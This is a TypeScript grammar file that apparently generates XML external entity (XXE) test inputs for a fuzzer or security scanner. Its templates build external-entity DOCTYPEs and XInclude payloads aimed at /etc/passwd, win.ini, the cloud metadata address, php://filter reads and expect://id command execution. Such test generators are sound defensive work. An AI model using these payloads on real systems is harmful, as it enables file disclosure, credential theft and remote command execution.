import type { Grammar } from '../grammar.ts';
import { words } from '../words.ts';

/** XML external entities (CWE-611). */
export const xxe: Grammar = {
  ...words,
  start: [
    '<declaration><doctype><root>',
    '<doctype><root>',
    '<<foo xmlns:xi="http://www.w3.org/2001/XInclude"><<xi:include parse="text" href="<target>"/><</foo>',
  ],
  declaration: ['<<?xml version="1.0"?>', '<<?xml version="1.0" encoding="UTF-8"?>\n', ''],
  doctype: [
    '<<!DOCTYPE <ident> [<<!ENTITY <ent> SYSTEM "<target>">]>',
    '<<!DOCTYPE <ident> [<<!ENTITY % <ent> SYSTEM "<target>"> %<ent>;]>',
    '<<!DOCTYPE <ident> PUBLIC "-//<ident>//DTD" "<target>">',
    '<<!DOCTYPE r [<<!ELEMENT r ANY><<!ENTITY <ent> PUBLIC "<ident>" "<target>">]>',
  ],
  ent: ['xxe', 'file', '<letter><letter>', 'payload'],
  target: [
    'file:///etc/passwd',
    'http://<host>/<ident>.dtd',
    'php://filter/read=convert.base64-encode/resource=<ident>',
    'file:///c:/windows/win.ini',
    'http://169.254.169.254/latest/meta-data/',
    'expect://id',
  ],
  root: ['<<r>&xxe;<</r>', '<<<letter>>&file;<</<letter>>', '', '\n<<data><<name>&payload;<</name><</data>'],
};
